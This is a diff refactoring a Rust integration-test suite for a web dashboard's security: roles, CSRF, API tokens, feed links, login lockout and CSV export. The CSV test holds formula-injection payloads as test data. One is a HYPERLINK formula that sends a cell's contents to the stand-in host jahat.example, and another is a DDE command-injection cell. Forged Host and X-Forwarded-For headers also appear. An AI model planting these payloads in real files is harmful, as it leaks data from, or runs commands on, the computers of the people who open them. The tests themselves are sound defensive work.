@@ -25,9 +25,23 @@ async fn collector_with_users(dir: &std::path::Path) -> TestCollector {
     c
 }
 
-fn http_addr(c: &TestCollector) -> SocketAddr {
-    c.http
-        .unwrap_or_else(|| panic!("the collector serves no dashboard"))
+/// A temporary folder with a collector and its three users in `<tmp>/collector`; returns the
+/// dashboard's address too.
+async fn dashboard_in_tempdir() -> (tempfile::TempDir, TestCollector, SocketAddr) {
+    configured_dashboard("collector", |t| t).await
+}
+
+/// [`dashboard_in_tempdir`] in `<tmp>/<folder>`, with its collector.toml rewritten by `edit`.
+async fn configured_dashboard(
+    folder: &str,
+    edit: impl FnOnce(String) -> String,
+) -> (tempfile::TempDir, TestCollector, SocketAddr) {
+    let tmp = tempdir();
+    let dir = tmp.path().join(folder);
+    init_collector_with(&dir, edit);
+    let c = collector_with_users(&dir).await;
+    let addr = c.dashboard();
+    (tmp, c, addr)
 }
 
 /// 1. Anonymous requests to every route but `/login` and `/healthz` are refused (pages
@@ -37,9 +51,7 @@ fn http_addr(c: &TestCollector) -> SocketAddr {
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn every_route_needs_a_user_the_right_role_and_a_csrf_token() {
     let bins = bins!();
-    let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
-    let c = collector_with_users(&tmp.path().join("collector")).await;
-    let addr = http_addr(&c);
+    let (_tmp, c, addr) = dashboard_in_tempdir().await;
 
     for r in ROUTES {
         let reply = http_call(addr, r.method, &concrete(r.path), &[], "").await;
@@ -58,7 +70,7 @@ async fn every_route_needs_a_user_the_right_role_and_a_csrf_token() {
             Access::Role(_) => assert_eq!(reply.status, 401, "{} {}", r.method, r.path),
         }
     }
-    assert_eq!(http_call(addr, "GET", "/healthz", &[], "").await.body, "ok");
+    assert_eq!(http_get(addr, "/healthz", &[]).await.body, "ok");
 
     // A viewer may read but change nothing, even with a valid CSRF token.
     let (viewer, viewer_csrf) = dashboard_login(addr, "pemirsa1", PASSWORD).await;
@@ -66,26 +78,17 @@ async fn every_route_needs_a_user_the_right_role_and_a_csrf_token() {
         .iter()
         .filter(|r| r.method == "POST" && r.access != Access::Public && r.path != "/logout")
     {
-        let reply = http_call(
-            addr,
-            "POST",
-            &concrete(r.path),
-            &[
-                ("Cookie", &viewer),
-                ("Content-Type", "application/x-www-form-urlencoded"),
-            ],
-            &form_body(&[
-                ("csrf", &viewer_csrf),
-                ("claim", "x"),
-                ("report", "x"),
-                ("verdict", "salah"),
-            ]),
-        )
-        .await;
+        let fields = [
+            ("csrf", viewer_csrf.as_str()),
+            ("claim", "x"),
+            ("report", "x"),
+            ("verdict", "salah"),
+        ];
+        let reply = post_form(addr, &concrete(r.path), &viewer, &fields).await;
         assert_eq!(reply.status, 403, "viewer on {}: {}", r.path, reply.body);
     }
     assert_eq!(
-        http_call(addr, "GET", "/armada", &[("Cookie", &viewer)], "")
+        http_get(addr, "/armada", &[("Cookie", &viewer)])
             .await
             .status,
         200
@@ -120,7 +123,7 @@ async fn every_route_needs_a_user_the_right_role_and_a_csrf_token() {
     );
     let done = http_call(addr, "POST", "/verifikasi", &headers, &form(true)).await;
     assert_eq!(done.status, 303, "{}", done.body);
-    let claims = http_call(addr, "GET", "/api/v1/claims", &[("Cookie", &viewer)], "").await;
+    let claims = http_get(addr, "/api/v1/claims", &[("Cookie", &viewer)]).await;
     let claims: Value = serde_json::from_str(&claims.body).unwrap_or_else(|e| panic!("{e}"));
     assert_eq!(claims["total"], 1);
     assert_eq!(
@@ -138,41 +141,22 @@ async fn every_route_needs_a_user_the_right_role_and_a_csrf_token() {
 
     // API tokens: read with a viewer's token, refused to change, dead once the user is disabled.
     let d = path_str(&c.dir).to_owned();
-    let token = run_ok(
-        &bins.collector,
-        &[
-            "api-token",
-            "create",
-            "--data-dir",
-            &d,
-            "--username",
-            "pemirsa1",
-        ],
-    );
-    let bearer = format!("Bearer {}", token.trim());
-    let list = http_call(
+    let bearer = api_bearer(&bins, &c.dir, "pemirsa1", &[]);
+    let list = http_get(
         addr,
-        "GET",
         "/api/v1/reports?format=csv",
         &[("Authorization", &bearer)],
-        "",
     )
     .await;
     assert_eq!(list.status, 200);
     assert!(list
         .header("content-type")
         .is_some_and(|t| t.starts_with("text/csv")));
-    let post = http_call(
-        addr,
-        "POST",
-        "/verifikasi",
-        &[
-            ("Authorization", &bearer),
-            ("Content-Type", "application/x-www-form-urlencoded"),
-        ],
-        &form(false),
-    )
-    .await;
+    let bearer_form = [
+        ("Authorization", bearer.as_str()),
+        ("Content-Type", "application/x-www-form-urlencoded"),
+    ];
+    let post = http_call(addr, "POST", "/verifikasi", &bearer_form, &form(false)).await;
     assert_eq!(post.status, 403);
     run_ok(
         &bins.collector,
@@ -186,21 +170,13 @@ async fn every_route_needs_a_user_the_right_role_and_a_csrf_token() {
         ],
     );
     assert_eq!(
-        http_call(
-            addr,
-            "GET",
-            "/api/v1/reports",
-            &[("Authorization", &bearer)],
-            ""
-        )
-        .await
-        .status,
+        http_get(addr, "/api/v1/reports", &[("Authorization", &bearer)])
+            .await
+            .status,
         401
     );
     assert_eq!(
-        http_call(addr, "GET", "/", &[("Cookie", &viewer)], "")
-            .await
-            .status,
+        http_get(addr, "/", &[("Cookie", &viewer)]).await.status,
         303
     );
 
@@ -217,18 +193,9 @@ async fn every_route_needs_a_user_the_right_role_and_a_csrf_token() {
 /// router answers each of them.
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn the_openapi_document_lists_every_route() {
-    let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
-    let c = collector_with_users(&tmp.path().join("collector")).await;
-    let addr = http_addr(&c);
+    let (_tmp, _c, addr) = dashboard_in_tempdir().await;
     let (admin, _) = dashboard_login(addr, "admin1", PASSWORD).await;
-    let doc = http_call(
-        addr,
-        "GET",
-        "/api/v1/openapi.json",
-        &[("Cookie", &admin)],
-        "",
-    )
-    .await;
+    let doc = http_get(addr, "/api/v1/openapi.json", &[("Cookie", &admin)]).await;
     let doc: Value = serde_json::from_str(&doc.body).unwrap_or_else(|e| panic!("{e}"));
     assert_eq!(doc["openapi"], "3.1.0");
     let mut documented = BTreeSet::new();
@@ -259,7 +226,7 @@ async fn the_openapi_document_lists_every_route() {
             r.path
         );
     }
-    let unknown = http_call(addr, "GET", "/tidak-ada", &[("Cookie", &admin)], "").await;
+    let unknown = http_get(addr, "/tidak-ada", &[("Cookie", &admin)]).await;
     assert_eq!(unknown.status, 404);
     assert!(unknown.body.contains("rute tidak dikenal"));
 }
@@ -308,38 +275,11 @@ async fn subscribe(
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn armada_shows_a_site_going_offline_and_events_stream_live() {
     let bins = bins!();
-    let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
-    let dir = tmp.path().join("collector");
-    init_collector_with(&dir, |t| {
-        t.replace("offline_after = \"10m\"", "offline_after = \"3s\"")
-    });
-    let c = collector_with_users(&dir).await;
-    let addr = http_addr(&c);
+    let (tmp, c, addr) = configured_dashboard("collector", offline_after("3s")).await;
     let agent_dir = tmp.path().join("agent");
     c.enroll_agent(&agent_dir, "lapas-uji").await;
-    let agent = pasopati_agent::Agent::open(&agent_dir).unwrap_or_else(|e| panic!("{e}"));
-    let handle = agent.handle();
-    let stop = tokio_util::sync::CancellationToken::new();
-    let task = tokio::spawn(agent.run_with(
-        pasopati_agent::RunOptions {
-            control_socket: false,
-            inbox: false,
-            web: false,
-        },
-        stop.clone(),
-    ));
-    let token = run_ok(
-        &bins.collector,
-        &[
-            "api-token",
-            "create",
-            "--data-dir",
-            path_str(&dir),
-            "--username",
-            "pemirsa1",
-        ],
-    );
-    let bearer = format!("Bearer {}", token.trim());
+    let (handle, running) = start_agent(&agent_dir);
+    let bearer = api_bearer(&bins, &c.dir, "pemirsa1", &[]);
     let state_of = |body: &str| -> Option<String> {
         let v: Value = serde_json::from_str(body).ok()?;
         v["items"]
@@ -350,14 +290,7 @@ async fn armada_shows_a_site_going_offline_and_events_stream_live() {
     };
     let deadline = Instant::now() + Duration::from_secs(30);
     loop {
-        let sites = http_call(
-            addr,
-            "GET",
-            "/api/v1/sites",
-            &[("Authorization", &bearer)],
-            "",
-        )
-        .await;
+        let sites = http_get(addr, "/api/v1/sites", &[("Authorization", &bearer)]).await;
         if state_of(&sites.body).as_deref() == Some("online") {
             break;
         }
@@ -391,19 +324,12 @@ async fn armada_shows_a_site_going_offline_and_events_stream_live() {
         latency.as_millis()
     );
 
-    stop.cancel();
-    let _ = task.await;
+    running.stop().await;
     let (cookie, _) = dashboard_login(addr, "admin1", PASSWORD).await;
     let deadline = Instant::now() + Duration::from_secs(30);
     loop {
-        let page = http_call(addr, "GET", "/armada", &[("Cookie", &cookie)], "").await;
-        let row = page
-            .body
-            .split("data-site=\"lapas-uji\"")
-            .nth(1)
-            .and_then(|r| r.split("</tr>").next())
-            .unwrap_or_default()
-            .to_owned();
+        let page = get_with_cookie(addr, "/armada", &cookie).await;
+        let row = armada_row(&page.body, "lapas-uji");
         if row.contains("class=\"offline\"") {
             break;
         }
@@ -435,58 +361,22 @@ async fn armada_shows_a_site_going_offline_and_events_stream_live() {
 /// JSON Feed 1.1 fields.
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn a_published_item_appears_in_valid_feeds() {
-    let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
-    let c = collector_with_users(&tmp.path().join("collector")).await;
-    let addr = http_addr(&c);
-    let agent_dir = tmp.path().join("agent");
-    c.enroll_agent(&agent_dir, "lapas-uji").await;
-    let agent = pasopati_agent::Agent::open(&agent_dir).unwrap_or_else(|e| panic!("{e}"));
+    let (tmp, c, addr) = dashboard_in_tempdir().await;
     let mut d = draft(7);
     d.title = "Panen sayur & buah <kebun> pembinaan".into();
-    let report = agent.file(d).unwrap_or_else(|e| panic!("{e}"));
-    let stop = tokio_util::sync::CancellationToken::new();
-    let task = tokio::spawn(agent.run_with(
-        pasopati_agent::RunOptions {
-            control_socket: false,
-            inbox: false,
-            web: false,
-        },
-        stop.clone(),
-    ));
-    eventually("the report stored", Duration::from_secs(30), || {
-        c.store.report_count().is_ok_and(|n| n == 1)
-    })
-    .await;
-    stop.cancel();
-    let _ = task.await;
+    let report = sync_reports(&c, &tmp.path().join("agent"), vec![d]).await[0].clone();
 
     let (cookie, csrf) = dashboard_login(addr, "analis1", PASSWORD).await;
-    let form = [
-        ("Cookie", cookie.as_str()),
-        ("Content-Type", "application/x-www-form-urlencoded"),
-    ];
-    let drafted = http_call(
-        addr,
-        "POST",
-        "/publikasi",
-        &form,
-        &form_body(&[("csrf", &csrf), ("report", &report.id.to_string())]),
-    )
-    .await;
+    let id = report.id.to_string();
+    let publish = [("csrf", csrf.as_str()), ("report", id.as_str())];
+    let drafted = post_form(addr, "/publikasi", &cookie, &publish).await;
     assert_eq!(drafted.status, 303, "{}", drafted.body);
-    let feed = http_call(addr, "GET", "/feed/feed.json", &[("Cookie", &cookie)], "").await;
+    let feed = http_get(addr, "/feed/feed.json", &[("Cookie", &cookie)]).await;
     assert!(!feed.body.contains("Panen sayur"), "a draft was published");
-    let approved = http_call(
-        addr,
-        "POST",
-        "/publikasi/1/setujui",
-        &form,
-        &form_body(&[("csrf", &csrf)]),
-    )
-    .await;
+    let approved = post_form(addr, "/publikasi/1/setujui", &cookie, &[("csrf", &csrf)]).await;
     assert_eq!(approved.status, 303, "{}", approved.body);
 
-    let atom = http_call(addr, "GET", "/feed/atom.xml", &[("Cookie", &cookie)], "").await;
+    let atom = http_get(addr, "/feed/atom.xml", &[("Cookie", &cookie)]).await;
     assert!(atom
         .header("content-type")
         .is_some_and(|t| t.starts_with("application/atom+xml")));
@@ -551,7 +441,7 @@ async fn a_published_item_appears_in_valid_feeds() {
         "{title}"
     );
 
-    let json = http_call(addr, "GET", "/feed/feed.json", &[("Cookie", &cookie)], "").await;
+    let json = http_get(addr, "/feed/feed.json", &[("Cookie", &cookie)]).await;
     let feed: Value = serde_json::from_str(&json.body).unwrap_or_else(|e| panic!("{e}"));
     assert_eq!(feed["version"], "https://jsonfeed.org/version/1.1");
     assert!(feed["title"].is_string() && feed["feed_url"].is_string());
@@ -845,27 +735,13 @@ async fn in_a_browser_an_urgent_report_appears_live() {
         pasopati_tests::skipped("browser test", "chromium and chromedriver are not installed (apt-get install chromium chromium-driver; PASOPATI_BROWSER=1 makes this a failure)");
         return;
     }
-    let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+    let tmp = tempdir();
     let c = collector_with_users(&tmp.path().join("collector")).await;
-    let base = format!("http://{}", http_addr(&c));
+    let base = format!("http://{}", c.dashboard());
     // Sites named as the gazetteer names them, in WIB and WITA, so that the screenshots show
     // names, labels and each site's local time.
-    let agent = enroll_named(
-        &c,
-        &tmp.path().join("agent"),
-        "lapas-cipinang",
-        "Lapas Kelas I Cipinang",
-        "DKI Jakarta",
-    )
-    .await;
-    let other = enroll_named(
-        &c,
-        &tmp.path().join("agent-2"),
-        "rutan-makassar",
-        "Rutan Kelas I Makassar",
-        "Sulawesi Selatan",
-    )
-    .await;
+    let agent = enroll_named(&c, &tmp.path().join("agent"), CIPINANG).await;
+    let other = enroll_named(&c, &tmp.path().join("agent-2"), MAKASSAR).await;
     let handle = agent.handle();
     for i in 0..4 {
         handle.file(draft(i)).unwrap_or_else(|e| panic!("{e}"));
@@ -877,33 +753,11 @@ async fn in_a_browser_an_urgent_report_appears_live() {
         .handle()
         .file(notable)
         .unwrap_or_else(|e| panic!("{e}"));
-    let (stop_other, other_task) = run_agent(other);
-    let stop = tokio_util::sync::CancellationToken::new();
-    let task = tokio::spawn(agent.run_with(
-        pasopati_agent::RunOptions {
-            control_socket: false,
-            inbox: false,
-            web: false,
-        },
-        stop.clone(),
-    ));
-    let (media, _) = pasopati_analysis::media::read_media_jsonl(
-        "fixture",
-        &std::fs::read_to_string(
-            std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/analysis/media.jsonl"),
-        )
-        .unwrap_or_else(|e| panic!("{e}")),
-    );
-    let newsroom = pasopati_collector::newsroom::Newsroom::new(
-        c.store.clone(),
-        &Default::default(),
-        &Default::default(),
-    );
-    newsroom.import(media).unwrap_or_else(|e| panic!("{e}"));
-    eventually("the first reports stored", Duration::from_secs(30), || {
-        c.store.report_count().is_ok_and(|n| n == 5)
-    })
-    .await;
+    let other_running = run_agent(other);
+    let running = run_agent(agent);
+    import_media_fixture(&c);
+    c.wait_for_reports("the first reports stored", 5, Duration::from_secs(30))
+        .await;
 
     let profile = tmp.path().join("chromium-profile");
     let browser = Browser::start(&profile).await;
@@ -999,10 +853,8 @@ async fn in_a_browser_an_urgent_report_appears_live() {
     drop(browser);
     let left = processes_naming(&profile);
     assert!(left.is_empty(), "chromium outlived the test: {left:?}");
-    stop.cancel();
-    let _ = task.await;
-    stop_other.cancel();
-    let _ = other_task.await;
+    running.stop().await;
+    other_running.stop().await;
 }
 
 /// `http_call` with a time limit, for answers that may never end (the event stream).
@@ -1041,9 +893,7 @@ fn shape(reply: &HttpReply) -> (u16, Vec<(String, String)>, String) {
 /// is answered like GET, without a body and never with 500.
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn head_requests_are_judged_as_get_and_unknown_methods_are_refused() {
-    let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
-    let c = collector_with_users(&tmp.path().join("collector")).await;
-    let addr = http_addr(&c);
+    let (_tmp, _c, addr) = dashboard_in_tempdir().await;
     let (viewer, _) = dashboard_login(addr, "pemirsa1", PASSWORD).await;
     let (analyst, _) = dashboard_login(addr, "analis1", PASSWORD).await;
     let (admin, _) = dashboard_login(addr, "admin1", PASSWORD).await;
@@ -1148,9 +998,7 @@ async fn head_requests_are_judged_as_get_and_unknown_methods_are_refused() {
 /// `+`, `-`, `@`) are neutralised as OWASP recommends: a leading single quote, the field quoted.
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn csv_export_neutralises_formula_cells() {
-    let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
-    let c = collector_with_users(&tmp.path().join("collector")).await;
-    let addr = http_addr(&c);
+    let (_tmp, _c, addr) = dashboard_in_tempdir().await;
     let (analyst, csrf) = dashboard_login(addr, "analis1", PASSWORD).await;
     let hostile = [
         "=HYPERLINK(\"http://jahat.example/?\"&A1,\"klik\")",
@@ -1159,31 +1007,15 @@ async fn csv_export_neutralises_formula_cells() {
         "@SUM(1+1)*cmd|' /C calc'!A0",
     ];
     for claim in hostile {
-        let reply = http_call(
-            addr,
-            "POST",
-            "/verifikasi",
-            &[
-                ("Cookie", &analyst),
-                ("Content-Type", "application/x-www-form-urlencoded"),
-            ],
-            &form_body(&[
-                ("csrf", &csrf),
-                ("claim", claim),
-                ("url", "https://contoh.example/klaim"),
-            ]),
-        )
-        .await;
+        let fields = [
+            ("csrf", csrf.as_str()),
+            ("claim", claim),
+            ("url", "https://contoh.example/klaim"),
+        ];
+        let reply = post_form(addr, "/verifikasi", &analyst, &fields).await;
         assert_eq!(reply.status, 303, "{}", reply.body);
     }
-    let csv = http_call(
-        addr,
-        "GET",
-        "/api/v1/claims?format=csv",
-        &[("Cookie", &analyst)],
-        "",
-    )
-    .await;
+    let csv = http_get(addr, "/api/v1/claims?format=csv", &[("Cookie", &analyst)]).await;
     assert_eq!(csv.status, 200);
     for claim in hostile {
         let quoted = format!("\"'{}\"", claim.replace('"', "\"\""));
@@ -1208,16 +1040,9 @@ async fn csv_export_neutralises_formula_cells() {
 /// configured listen address), never from the request's `Host` or `X-Forwarded-Proto`.
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn feed_links_ignore_a_hostile_host_header() {
-    let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
-    let dir = tmp.path().join("collector");
-    init_collector_with(&dir, |t| {
-        t.replace(
-            "[dashboard]",
-            "[dashboard]\npublic_url = \"https://pasopati.contoh.go.id\"",
-        )
-    });
-    let c = collector_with_users(&dir).await;
-    let addr = http_addr(&c);
+    let public_url = "[dashboard]\npublic_url = \"https://pasopati.contoh.go.id\"";
+    let (tmp, c, addr) =
+        configured_dashboard("collector", |t| t.replace("[dashboard]", public_url)).await;
     let (viewer, _) = dashboard_login(addr, "pemirsa1", PASSWORD).await;
     let hostile = [
         ("Cookie", viewer.as_str()),
@@ -1255,14 +1080,12 @@ async fn feed_links_ignore_a_hostile_host_header() {
     // Without `public_url`, links use the configured listen address.
     let dir = tmp.path().join("tanpa-url");
     let c = collector_with_users(&dir).await;
-    let addr = http_addr(&c);
+    let addr = c.dashboard();
     let (viewer, _) = dashboard_login(addr, "pemirsa1", PASSWORD).await;
-    let json = http_call(
+    let json = http_get(
         addr,
-        "GET",
         "/feed/feed.json",
         &[("Cookie", &viewer), ("Host", "jahat.example")],
-        "",
     )
     .await;
     let feed: Value = serde_json::from_str(&json.body).unwrap_or_else(|e| panic!("{e}"));
@@ -1278,43 +1101,16 @@ async fn feed_links_ignore_a_hostile_host_header() {
 /// `a&b#c` keeps its value through the pagination link and the CSV link.
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn search_links_percent_encode_their_values() {
-    let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
-    let c = collector_with_users(&tmp.path().join("collector")).await;
-    let addr = http_addr(&c);
-    let agent_dir = tmp.path().join("agent");
-    c.enroll_agent(&agent_dir, "lapas-uji").await;
-    let agent = pasopati_agent::Agent::open(&agent_dir).unwrap_or_else(|e| panic!("{e}"));
-    let handle = agent.handle();
-    for i in 0..3 {
+    let (tmp, c, addr) = dashboard_in_tempdir().await;
+    let drafts = (0..3).map(|i| {
         let mut d = draft(i);
         d.body = format!("{} Kode uji a&b#c.", d.body);
-        handle.file(d).unwrap_or_else(|e| panic!("{e}"));
-    }
-    let stop = tokio_util::sync::CancellationToken::new();
-    let task = tokio::spawn(agent.run_with(
-        pasopati_agent::RunOptions {
-            control_socket: false,
-            inbox: false,
-            web: false,
-        },
-        stop.clone(),
-    ));
-    eventually("the reports stored", Duration::from_secs(30), || {
-        c.store.report_count().is_ok_and(|n| n == 3)
-    })
-    .await;
-    stop.cancel();
-    let _ = task.await;
+        d
+    });
+    sync_reports(&c, &tmp.path().join("agent"), drafts.collect()).await;
 
     let (viewer, _) = dashboard_login(addr, "pemirsa1", PASSWORD).await;
-    let page = http_call(
-        addr,
-        "GET",
-        "/laporan?q=a%26b%23c&limit=1",
-        &[("Cookie", &viewer)],
-        "",
-    )
-    .await;
+    let page = http_get(addr, "/laporan?q=a%26b%23c&limit=1", &[("Cookie", &viewer)]).await;
     assert_eq!(page.status, 200);
     let href = |body: &str, label: &str| -> String {
         body.split("<a href=\"")
@@ -1328,7 +1124,7 @@ async fn search_links_percent_encode_their_values() {
     let csv = href(&page.body, "Unduh CSV");
     assert!(csv.contains("q=a%26b%23c"), "{csv}");
     // Following the link keeps the search (the form shows it again) and moves on a page.
-    let second = http_call(addr, "GET", &next, &[("Cookie", &viewer)], "").await;
+    let second = http_get(addr, &next, &[("Cookie", &viewer)]).await;
     assert_eq!(second.status, 200);
     assert!(
         second
@@ -1371,9 +1167,7 @@ async fn login_attempt(
 /// password is verified, so at most five are verified (401) and the rest are refused (429).
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn parallel_wrong_logins_are_throttled_before_argon2() {
-    let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
-    let c = collector_with_users(&tmp.path().join("collector")).await;
-    let addr = http_addr(&c);
+    let (_tmp, _c, addr) = dashboard_in_tempdir().await;
     let attempts: Vec<_> = (0..32)
         .map(|_| {
             tokio::spawn(async move {
@@ -1402,17 +1196,13 @@ async fn parallel_wrong_logins_are_throttled_before_argon2() {
 /// other peer the header is ignored (so an attacker cannot dodge the lock by writing it).
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn lockout_is_per_user_and_client_address() {
-    let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
-    let dir = tmp.path().join("di-belakang-proxy");
-    init_collector_with(&dir, |t| {
-        t.replace(
-            "trusted_proxies = []",
-            "trusted_proxies = [\"127.0.0.1\", \"::1\"]",
-        )
-    });
-    let c = collector_with_users(&dir).await;
-    let addr = http_addr(&c);
+    let proxies = "trusted_proxies = [\"127.0.0.1\", \"::1\"]";
+    let (tmp, c, addr) = configured_dashboard("di-belakang-proxy", |t| {
+        t.replace("trusted_proxies = []", proxies)
+    })
+    .await;
     let attacker = [("X-Forwarded-For", "203.0.113.7")];
+    let real_admin = [("X-Forwarded-For", "198.51.100.9")];
     for _ in 0..5 {
         let r = login_attempt(addr, "admin1", "salah-sekali-ya-ampun", &attacker).await;
         assert_eq!(r.status, 401, "{}", r.body);
@@ -1424,13 +1214,7 @@ async fn lockout_is_per_user_and_client_address() {
         429
     );
     // The real admin at her own address signs in.
-    let real = login_attempt(
-        addr,
-        "admin1",
-        PASSWORD,
-        &[("X-Forwarded-For", "198.51.100.9")],
-    )
-    .await;
+    let real = login_attempt(addr, "admin1", PASSWORD, &real_admin).await;
     assert_eq!(real.status, 303, "{}", real.body);
     // Another user at the attacker's address is not locked either.
     let other = login_attempt(addr, "analis1", PASSWORD, &attacker).await;
@@ -1439,25 +1223,14 @@ async fn lockout_is_per_user_and_client_address() {
 
     // No trusted proxy (the default): the header is ignored and the peer is the client.
     let c = collector_with_users(&tmp.path().join("tanpa-proxy")).await;
-    let addr = http_addr(&c);
+    let addr = c.dashboard();
     for i in 0..5 {
         let spoofed = format!("203.0.113.{i}");
-        let r = login_attempt(
-            addr,
-            "admin1",
-            "salah-sekali-ya-ampun",
-            &[("X-Forwarded-For", &spoofed)],
-        )
-        .await;
+        let from = [("X-Forwarded-For", spoofed.as_str())];
+        let r = login_attempt(addr, "admin1", "salah-sekali-ya-ampun", &from).await;
         assert_eq!(r.status, 401, "{}", r.body);
     }
-    let r = login_attempt(
-        addr,
-        "admin1",
-        PASSWORD,
-        &[("X-Forwarded-For", "198.51.100.9")],
-    )
-    .await;
+    let r = login_attempt(addr, "admin1", PASSWORD, &real_admin).await;
     assert_eq!(r.status, 429, "{}", r.body);
 }
 
@@ -1467,9 +1240,7 @@ async fn lockout_is_per_user_and_client_address() {
 /// script or style; and the login form needs its pre-session CSRF token.
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn every_answer_has_security_headers_and_login_needs_its_csrf_token() {
-    let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
-    let c = collector_with_users(&tmp.path().join("collector")).await;
-    let addr = http_addr(&c);
+    let (_tmp, _c, addr) = dashboard_in_tempdir().await;
     let (admin, _) = dashboard_login(addr, "admin1", PASSWORD).await;
     let check = |reply: &HttpReply, context: &str| {
         let csp = reply
@@ -1534,12 +1305,12 @@ async fn every_answer_has_security_headers_and_login_needs_its_csrf_token() {
         check(&reply, &format!("{method} {path}"));
     }
     // The static files are served to anyone, with their types.
-    let css = http_call(addr, "GET", "/static/app.css", &[], "").await;
+    let css = http_get(addr, "/static/app.css", &[]).await;
     assert_eq!(css.status, 200);
     assert!(css
         .header("content-type")
         .is_some_and(|t| t.starts_with("text/css")));
-    let js = http_call(addr, "GET", "/static/app.js", &[], "").await;
+    let js = http_get(addr, "/static/app.js", &[]).await;
     assert_eq!(js.status, 200);
     assert!(js.body.contains("EventSource"));
 
@@ -1633,25 +1404,13 @@ async fn open_stream(addr: SocketAddr, credential: (&str, &str)) -> tokio::task:
 /// and of its user being disabled.
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn event_stream_ends_on_logout_and_disable() {
-    let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
-    let c = collector_with_users(&tmp.path().join("collector")).await;
-    let addr = http_addr(&c);
+    let (_tmp, c, addr) = dashboard_in_tempdir().await;
 
     let (admin, csrf) = dashboard_login(addr, "admin1", PASSWORD).await;
     let stream = open_stream(addr, ("Cookie", &admin)).await;
     tokio::time::sleep(Duration::from_millis(2500)).await;
     assert!(!stream.is_finished(), "the stream ended on its own");
-    let out = http_call(
-        addr,
-        "POST",
-        "/logout",
-        &[
-            ("Cookie", &admin),
-            ("Content-Type", "application/x-www-form-urlencoded"),
-        ],
-        &form_body(&[("csrf", &csrf)]),
-    )
-    .await;
+    let out = post_form(addr, "/logout", &admin, &[("csrf", &csrf)]).await;
     assert_eq!(out.status, 303, "{}", out.body);
     let started = Instant::now();
     tokio::time::timeout(Duration::from_secs(5), stream)
@@ -1681,35 +1440,16 @@ async fn event_stream_ends_on_logout_and_disable() {
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn api_tokens_expire_and_are_listed_and_revoked_one_by_one() {
     let bins = bins!();
-    let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
-    let c = collector_with_users(&tmp.path().join("collector")).await;
-    let addr = http_addr(&c);
+    let (_tmp, c, addr) = dashboard_in_tempdir().await;
     let d = path_str(&c.dir).to_owned();
-    let create = |extra: &[&str]| {
-        let mut args = vec![
-            "api-token",
-            "create",
-            "--data-dir",
-            &d,
-            "--username",
-            "pemirsa1",
-        ];
-        args.extend_from_slice(extra);
-        format!("Bearer {}", run_ok(&bins.collector, &args).trim())
-    };
+    let create = |extra: &[&str]| api_bearer(&bins, &c.dir, "pemirsa1", extra);
     let kept = create(&[]);
     let revoked = create(&["--expires", "30d"]);
     let short = create(&["--expires", "2s"]);
     let status = |bearer: String| async move {
-        http_call(
-            addr,
-            "GET",
-            "/api/v1/sites",
-            &[("Authorization", &bearer)],
-            "",
-        )
-        .await
-        .status
+        http_get(addr, "/api/v1/sites", &[("Authorization", &bearer)])
+            .await
+            .status
     };
     for t in [&kept, &revoked, &short] {
         assert_eq!(status(t.clone()).await, 200);
@@ -1797,11 +1537,11 @@ async fn api_tokens_expire_and_are_listed_and_revoked_one_by_one() {
 async fn sessions_survive_a_restart_and_logout_removes_them() {
     use pasopati_collector::store::StoredSession;
     use pasopati_collector::web::auth::MAX_SESSIONS_PER_USER;
-    let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+    let tmp = tempdir();
     let dir = tmp.path().join("collector");
     let c = collector_with_users(&dir).await;
-    let (cookie, csrf) = dashboard_login(http_addr(&c), "admin1", PASSWORD).await;
-    let (viewer, _) = dashboard_login(http_addr(&c), "pemirsa1", PASSWORD).await;
+    let (cookie, csrf) = dashboard_login(c.dashboard(), "admin1", PASSWORD).await;
+    let (viewer, _) = dashboard_login(c.dashboard(), "pemirsa1", PASSWORD).await;
     c.stop().await;
 
     let id = cookie.trim_start_matches("pasopati_session=").to_owned();
@@ -1813,33 +1553,21 @@ async fn sessions_survive_a_restart_and_logout_removes_them() {
         "the session id is stored in the clear"
     );
 
-    let c = TestCollector::start(&dir, ([127, 0, 0, 1], 0).into()).await;
-    let addr = http_addr(&c);
-    let home = http_call(addr, "GET", "/", &[("Cookie", &cookie)], "").await;
+    let c = TestCollector::start(&dir, any_loopback_port()).await;
+    let addr = c.dashboard();
+    let home = http_get(addr, "/", &[("Cookie", &cookie)]).await;
     assert_eq!(home.status, 200, "the session did not survive the restart");
     assert!(home.body.contains(&csrf), "the CSRF token changed");
     assert_eq!(c.store.session_count("admin1").ok(), Some(1));
 
-    let out = http_call(
-        addr,
-        "POST",
-        "/logout",
-        &[
-            ("Cookie", &cookie),
-            ("Content-Type", "application/x-www-form-urlencoded"),
-        ],
-        &form_body(&[("csrf", &csrf)]),
-    )
-    .await;
+    let out = post_form(addr, "/logout", &cookie, &[("csrf", &csrf)]).await;
     assert_eq!(out.status, 303, "{}", out.body);
